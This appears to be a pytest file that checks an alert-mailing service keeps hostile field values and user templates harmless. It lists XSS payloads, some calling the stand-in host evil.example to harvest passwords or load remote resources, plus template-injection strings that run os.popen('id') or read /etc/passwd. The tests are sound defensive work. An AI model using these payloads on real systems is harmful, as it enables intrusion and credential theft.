"""What a mail shows, parsed as a mail program does, with every field of an alert hostile; templates of one's own."""

from __future__ import annotations

import email
from email import policy
from pathlib import Path
from typing import Any

import pytest
from lxml import html

from core.errors import UsageError
from core.records import Alert, Subscription
from core.records.alert import News, Rewording, Snippet
from desk.delivery.render import Notice, Renderer
from desk.delivery.store.queue import Message
from tests.desk.delivery.support import NOON_MS, alert, mail_server, subscription
from tests.desk.delivery.test_channels import carry
from tests.desk.delivery.test_plan import known, planned

PAYLOADS = (
    "<script>alert(1)</script>",
    '"><img src=https://evil.example/pixel onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "</title></head><body onload=alert(1)><style>@import url(https://evil.example/x.css)</style>",
    "<a href='javascript:alert(1)'>x</a><iframe srcdoc=x></iframe>",
    "--></style></script><svg/onload=alert(1)><math><mtext></mtext></math>",
    "expression(alert(1)); background: url(https://evil.example/b)",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}{% include '/etc/passwd' %}",
    "\x1b[2J\u202e\u2066\0\x07",
    "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example/><input name=password>",
)
TAGS = {
    *("html", "head", "meta", "title", "body", "article", "h2", "a", "p", "strong"),
    *("ul", "li", "del", "ins", "blockquote", "mark", "code"),
}
ATTRIBUTES = {"lang", "charset", "style", "dir", "href"}


def hostile(payload: str, url: str) -> Any:
    return alert(
        url=url,
        title=payload,
        source=payload,
        language=payload,
        reason="edit",
        parameter=payload,
        news=(News("edit", payload), News(payload, payload)),
        snippets=(Snippet("text", payload, ((0, min(5, len(payload))),)),),
        clause=payload,
        changes=(Rewording("text", payload, payload),),
        outlets=(payload, payload + "2"),
        previous=payload,
    )


def rendered(one: Alert, named: Subscription | None = None, templates: str = "") -> Notice:
    """The message of one alert."""
    parts = planned(known(subscription()), one).deliveries
    message = Message(id="0" * 32, channel="hook", subscription="s", kind="alert", level="normal", queued_ms=NOON_MS)
    return Renderer(templates, "https://desk.example").render(message, parts, named or subscription())


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("url", ["https://outlet.example/{}", "javascript:alert(1)//{}", "data:text/html,{}"])
def test_the_mail_holds_nothing_but_text_and_links_to_the_web(payload: str, url: str) -> None:
    notice = rendered(hostile(payload, url.format(payload)), subscription(name=payload, owner=payload))
    with mail_server() as box:
        carry("mailto:ann@outlet.example", notice, smtp=f"smtp://127.0.0.1:{box.port}?security=none")
    [(_, _, content)] = box.mails
    parsed = email.message_from_bytes(content, policy=policy.default)
    assert not {"bcc", "cc"} & {name.lower() for name in parsed}
    assert [part.get_content_type() for part in parsed.walk() if not part.is_multipart()] == ["text/plain", "text/html"]
    body = parsed.get_body(("html",))
    assert body is not None
    tree = html.document_fromstring(body.get_content())
    plain = html.document_fromstring(rendered(hostile("x", "https://outlet.example/")).html)
    for element in tree.iter():
        assert element.tag in TAGS, element.tag
        assert set(element.attrib) <= ATTRIBUTES, dict(element.attrib)
        assert element.get("href", "https://desk.example/").startswith(
            ("https://outlet.example/", "https://desk.example/")
        )
    # No style of the page comes from a field.
    assert {one.get("style") for one in tree.iter()} <= {one.get("style") for one in plain.iter()}


@pytest.mark.parametrize(
    "template",
    [
        "{{ ''.__class__.__mro__ }}",
        "{{ cycler.__init__.__globals__ }}",
        "{{ alerts.append(1) }}",
        "{{ alerts[0].__class__ }}",
        "{% for x in range(10 ** 9) %}{% endfor %}",
        "{{ 1 / 0 }}",
        "{{ 'a' + 1 }}",
        "{{ 'x'.format(a=1).encode().decode('nothing') }}",
        "{{ '{0.__class__}'.format(1) }}",
        "{% macro again() %}{{ again() }}{% endmacro %}{{ again() }}",
        "{% include 'chat.txt' %}{% include 'not there' %}",
        "{% include '../../../../etc/passwd' %}",
        "{% if %}",
        "{{ missing }}",
    ],
)
def test_a_template_that_fails_or_reaches_out_of_its_box_is_named(tmp_path: Path, template: str) -> None:
    (tmp_path / "subject.txt").write_text(template)
    with pytest.raises(UsageError, match=r"^template subject\.txt: "):
        rendered(alert(), templates=str(tmp_path))
